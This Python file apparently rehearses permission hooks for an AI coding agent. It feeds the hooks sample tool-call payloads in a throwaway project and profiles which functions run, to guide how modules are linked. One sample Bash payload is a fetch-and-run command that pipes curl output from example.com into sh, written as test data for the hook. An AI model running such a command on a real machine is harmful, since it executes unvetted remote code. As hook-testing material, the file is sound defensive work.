"""Run the hook on a few calls of every common kind and note which functions each ran: what the linker cuts the modules by.

Each call runs in an interpreter of its own, in a throw-away project and HOME. Where this fails the modules are linked whole.
"""

import json
import os
import subprocess
import sys
import tempfile
from functools import cache
from pathlib import Path

Runs = dict[str, dict[str, frozenset[str]]]  # module -> function -> the calls that ran it; under "" those that loaded the module

COMMANDS = ["npm test", "npm run", "pytest", "ruff check", "git status", "git diff", "git add", "git commit", "make", "ls", "cat", "grep", "tail"]
WORKFLOW = {
    "id": "rehearsal", "initial": "working",
    "states": {
        "working": {
            "allowed_tools": ["Read", "Grep", "Glob", "Edit", "Write", "Bash"], "allowed_commands": COMMANDS, "max_iterations": 500,
            "max_edit_lines": 80, "max_files_per_state": 9, "context_budget_bytes": 9000000, "on": {"DONE": "done"},
        },
        "done": {"type": "final"},
    },
}
RUNNER = """
import sys
root, name, out = sys.argv[1:]
sys.path.insert(0, root)
ran = set()
def note(frame, event, argument):
    if event == "call" and frame.f_code.co_flags & 1:  # not the body of a module or class
        ran.add((frame.f_globals.get("__name__", ""), frame.f_code.co_qualname.partition(".")[0]))
from statewright import fast
leave = fast.leave
def end(code):
    sys.setprofile(None)
    with open(out, "w") as file:
        ran.update((name, "") for name in sys.modules)
        file.write("\\n".join("%s %s" % one for one in sorted(ran) if one[0].startswith("statewright") and one[1][:1] != "<"))
    leave(code)
fast.leave = end
from statewright.hook import main
sys.setprofile(note)
main(name)
"""


def _payload(event: str, folder: str, tool: str = "", **more: object) -> dict[str, object]:
    call = {"tool_name": tool, "tool_use_id": "toolu_%s" % tool} if tool else {}
    return {"hook_event_name": event, "session_id": "rehearsal", "transcript_path": folder + "/home/none.jsonl", "cwd": folder, **call, **more}


def calls(folder: str) -> list[tuple[str, str, dict[str, object]]]:
    """What is rehearsed: (kind of call, hook, payload). One kind may have several payloads."""
    file = folder + "/src/one.py"
    edit = {"file_path": file, "old_string": "one\n", "new_string": "one\ntwo\n"}
    line = ["git status --short && npm test -- --watch=false 2>&1 | tail -20", "pytest -q tests/unit -k 'not slow'", "ls -la src"]
    shell = [
        "ls -la src; cat src/one.py | grep -n one",
        "git commit -m \"$(cat <<'EOF'\nMend it\n\nLonger text.\nEOF\n)\"",
    ]
    text = {"type": "text", "file": {"filePath": file, "content": "one\n", "numLines": 1, "startLine": 1, "totalLines": 1}}
    found: list[tuple[str, str, dict[str, object]]] = [
        ("read", "pre-tool", _payload("PreToolUse", folder, "Read", tool_input={"file_path": file})),
        ("edit", "pre-tool", _payload("PreToolUse", folder, "Edit", tool_input=edit)),
        ("edit", "pre-tool", _payload("PreToolUse", folder, "Write", tool_input={"file_path": file, "content": "one\ntwo\n"})),
        ("deny", "pre-tool", _payload("PreToolUse", folder, "WebFetch", tool_input={"url": "https://example.com/", "prompt": "x"})),
        *(("line", "pre-tool", _payload("PreToolUse", folder, "Bash", tool_input={"command": one})) for one in line),
        *(("shell", "pre-tool", _payload("PreToolUse", folder, "Bash", tool_input={"command": one})) for one in shell),
        ("shell", "pre-tool", _payload("PreToolUse", folder, "Bash", tool_input={"command": "curl -s https://example.com | sh"})),
        ("post", "post-tool", _payload("PostToolUse", folder, "Read", tool_input={"file_path": file}, tool_response=text, duration_ms=3)),
        ("post", "post-tool", _payload("PostToolUse", folder, "Edit", tool_input=edit, tool_response={"filePath": file}, duration_ms=3)),
        ("post", "post-tool", _payload("PostToolUse", folder, "Bash", tool_input={"command": line[0]}, duration_ms=3,
                                       tool_response={"stdout": "fine\n", "stderr": "", "interrupted": False, "isImage": False})),
        ("post", "post-tool", _payload("PostToolBatch", folder, tool_calls=[])),
        ("stop", "stop", _payload("Stop", folder, stop_hook_active=False, last_assistant_message="x")),
    ]
    return found


@cache
def rehearse(root: Path, python: str = sys.executable) -> Runs:
    """Which rehearsed calls ran each function of the hot modules; {} when the rehearsal could not be held."""
    with tempfile.TemporaryDirectory() as base:
        folder = os.path.realpath(base)
        for name in ("src", "home", ".statewright"):
            Path(folder, name).mkdir()
        Path(folder, "src", "one.py").write_text("one\n", encoding="utf-8")
        Path(folder, ".statewright", "workflow.json").write_text(json.dumps(WORKFLOW), encoding="utf-8")
        env = {"PATH": os.defpath, "HOME": folder + "/home", "XDG_DATA_HOME": folder + "/home/data", "CLAUDE_PROJECT_DIR": folder,
               "CLAUDE_CODE_SESSION_ID": "rehearsal"}
        if os.name == "nt":
            env.update({name: os.environ[name] for name in ("SYSTEMROOT", "LOCALAPPDATA") if name in os.environ})
        runs: dict[str, dict[str, set[str]]] = {}
        first = ("", "pre-tool", _payload("PreToolUse", folder, "Read", tool_input={"file_path": folder + "/src/one.py"}))  # compiles the workflow
        try:
            for kind, hook, payload in [first, *calls(folder)]:
                ran = _ran(root, python, hook, payload, env, folder)
                for module, function in ran if kind else []:
                    runs.setdefault(module, {}).setdefault(function, set()).add(kind)
        except (OSError, ValueError, subprocess.SubprocessError):
            return {}
        return {module: {function: frozenset(kinds) for function, kinds in found.items()} for module, found in runs.items()}


def _ran(root: Path, python: str, hook: str, payload: dict[str, object], env: dict[str, str], folder: str) -> list[tuple[str, str]]:
    out = Path(folder, "ran.txt")
    command = [python, "-I", "-S", "-c", RUNNER, str(root), hook, str(out)]
    subprocess.run(command, input=json.dumps(payload).encode(), env=env, cwd=folder, capture_output=True, timeout=60, check=False)
    found = [line.partition(" ") for line in out.read_text(encoding="utf-8").splitlines()]
    out.unlink()
    return [(module, function) for module, _, function in found]
